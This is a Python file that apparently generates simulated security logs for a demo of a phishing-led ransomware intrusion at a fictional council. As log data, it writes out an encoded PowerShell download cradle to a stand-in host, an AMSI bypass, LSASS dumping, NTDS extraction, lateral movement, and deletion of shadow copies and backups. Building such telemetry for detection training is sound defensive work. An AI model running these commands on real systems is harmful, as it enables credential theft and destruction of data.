"""A phishing mail at the council becomes the hour before a ransomware attack."""

from base64 import b64encode

from deploy.demo import lines
from deploy.demo.attacks.script import Script
from deploy.demo.city import COUNCIL, OFFICE, POWERSHELL_EXE, WINDOWS
from deploy.demo.office import digest

BEGINS = -16_200.0
ADDRESS = "198.51.100.23"
VICTIM = COUNCIL.desk("e.sandhu")
DC = COUNCIL.host("dc01")
FILES = COUNCIL.host("fs01")
BACKUP = COUNCIL.host("bk01")
SERVICE = "C:\\Windows\\PSEXESVC.exe"
STAGER = "C:\\Users\\Public\\sync.exe"
STAGED_SCRIPT = "C:\\Users\\e.sandhu\\AppData\\Local\\Temp\\invoice.js"
CRADLE = f"IEX (New-Object Net.WebClient).DownloadString('http://{ADDRESS}/i')"


def ransomware() -> Script:
    """Document, script, credentials, servers, backups: each step minutes after the last."""
    script = Script(BEGINS)
    _open_document(script)
    script.wait(120)
    _look_around(script)
    script.wait(600)
    _steal_credentials(script)
    script.wait(900)
    _move_to_servers(script)
    script.wait(900)
    _destroy_backups(script)
    return script


def _victim(image: str, command: str, parent: str) -> str:
    return lines.process(
        VICTIM.host, VICTIM.user, image, command, parent,
        IntegrityLevel="Medium", Hashes=digest(image),
    )  # fmt: skip


def _open_document(script: Script) -> None:
    document = "C:\\Users\\e.sandhu\\Downloads\\Overdue invoice 4471.docm"
    wscript = WINDOWS + "wscript.exe"
    encoded = b64encode(CRADLE.encode("utf-16-le")).decode()
    script.log(
        "council", "windows",
        _victim(OFFICE + "WINWORD.EXE", f'"WINWORD.EXE" /n "{document}"', OFFICE + "OUTLOOK.EXE"),
        _victim(wscript, f"wscript.exe {STAGED_SCRIPT}", OFFICE + "WINWORD.EXE"),
        lines.windows(
            lines.SYSMON, 3, VICTIM.host, User=VICTIM.user, Image=wscript, Protocol="tcp",
            Initiated="true", SourceIp=VICTIM.address, SourcePort="51120",
            DestinationIp=ADDRESS, DestinationPort="80",
        ),
        _victim(POWERSHELL_EXE, f"powershell -nop -w hidden -enc {encoded}", wscript),
        _victim(POWERSHELL_EXE, f"powershell -nop -c {CRADLE}", POWERSHELL_EXE),
        lines.windows(
            lines.POWERSHELL, 4104, VICTIM.host,
            ScriptBlockText="[Ref].Assembly.GetType('S').GetField('amsiInitFailed','NonPublic,Static')",
        ),
    )  # fmt: skip
    script.log(
        "council", "firewall",
        lines.firewall(
            COUNCIL.host("fw01"), "allow", src_ip=VICTIM.address, src_port=51120,
            dst_ip=ADDRESS, dst_port=80, protocol="TCP",
            sent_bytes=2_210, recv_bytes=1_944_120, rule="out-web",
        ),
    )  # fmt: skip


def _look_around(script: Script) -> None:
    cmd = WINDOWS + "cmd.exe"
    task = f"schtasks /create /sc onlogon /tn SyncHost /tr {STAGER}"
    script.log(
        "council", "windows",
        _victim(WINDOWS + "whoami.exe", "whoami /all", cmd),
        _victim(WINDOWS + "nltest.exe", "nltest /domain_trusts", cmd),
        _victim(WINDOWS + "nltest.exe", "nltest /dclist:riverside", cmd),
        _victim(WINDOWS + "schtasks.exe", task, cmd),
        lines.windows(
            lines.POWERSHELL, 4104, VICTIM.host, ScriptBlockText="Find-LocalAdminAccess -Verbose"
        ),
    )  # fmt: skip


def _steal_credentials(script: Script) -> None:
    dump = "C:\\Windows\\Temp\\lsass.dmp"
    wdigest = (
        "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential"
    )
    rundll = WINDOWS + "rundll32.exe"
    script.log(
        "council", "windows",
        lines.windows(
            lines.SYSMON, 13, VICTIM.host, User=VICTIM.user, Image=WINDOWS + "reg.exe",
            EventType="SetValue", TargetObject=wdigest, Details="DWORD (0x00000001)",
        ),
        lines.windows(
            lines.SYSMON, 10, VICTIM.host, SourceImage=STAGER, SourceUser=VICTIM.user,
            TargetImage=WINDOWS + "lsass.exe", GrantedAccess="0x1010",
            TargetUser="NT AUTHORITY\\SYSTEM",
        ),
        _victim(rundll, f"rundll32.exe comsvcs.dll, MiniDump 684 {dump} full", WINDOWS + "cmd.exe"),
        lines.windows(
            lines.SYSMON, 11, VICTIM.host, User=VICTIM.user, Image=rundll, TargetFilename=dump
        ),
    )  # fmt: skip


def _move_to_servers(script: Script) -> None:
    admin = "RIVERSIDE\\k.osei"
    for host in (FILES, DC, BACKUP):
        script.log(
            "council", "windows",
            lines.windows(
                lines.SECURITY, 4624, host, TargetUserName="k.osei", TargetDomainName="RIVERSIDE",
                LogonType="3", IpAddress=VICTIM.address, AuthenticationPackageName="NTLM",
                WorkstationName=VICTIM.host,
            ),
            lines.windows(
                lines.SYSTEM, 7045, host, ServiceName="PSEXESVC",
                ImagePath="%SystemRoot%\\PSEXESVC.exe", StartType="demand start",
            ),
            lines.process(
                host, admin, WINDOWS + "cmd.exe", "cmd.exe", SERVICE,
                IntegrityLevel="System", Hashes=digest(WINDOWS + "cmd.exe"),
            ),
        )  # fmt: skip
        script.wait(180)
    script.log(
        "council", "windows",
        lines.windows(
            lines.SECURITY, 4688, DC, SubjectUserName="k.osei", SubjectDomainName="RIVERSIDE",
            NewProcessName=WINDOWS + "ntdsutil.exe", ParentProcessName=WINDOWS + "cmd.exe",
            CommandLine='ntdsutil "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\n" q q',
        ),
        lines.windows(
            lines.SECURITY, 4728, DC, SubjectUserName="k.osei", SubjectDomainName="RIVERSIDE",
            TargetUserName="Domain Admins", TargetDomainName="RIVERSIDE",
            MemberName="CN=svc-sync,CN=Users,DC=riverside,DC=example",
        ),
    )  # fmt: skip


def _destroy_backups(script: Script) -> None:
    def on_backup(image: str, command: str) -> str:
        return lines.process(
            BACKUP, "RIVERSIDE\\svc-sync", image, command, WINDOWS + "cmd.exe",
            IntegrityLevel="High", Hashes=digest(image),
        )  # fmt: skip

    script.log(
        "council", "windows",
        on_backup(POWERSHELL_EXE, "powershell Set-MpPreference -DisableRealtimeMonitoring $true"),
        on_backup(WINDOWS + "wbadmin.exe", "wbadmin delete catalog -quiet"),
        on_backup(WINDOWS + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        on_backup(WINDOWS + "bcdedit.exe", "bcdedit /set {default} recoveryenabled no"),
        on_backup(WINDOWS + "wevtutil.exe", "wevtutil cl Security"),
        lines.windows(
            lines.SECURITY, 1102, BACKUP, SubjectUserName="svc-sync", SubjectDomainName="RIVERSIDE"
        ),
    )  # fmt: skip
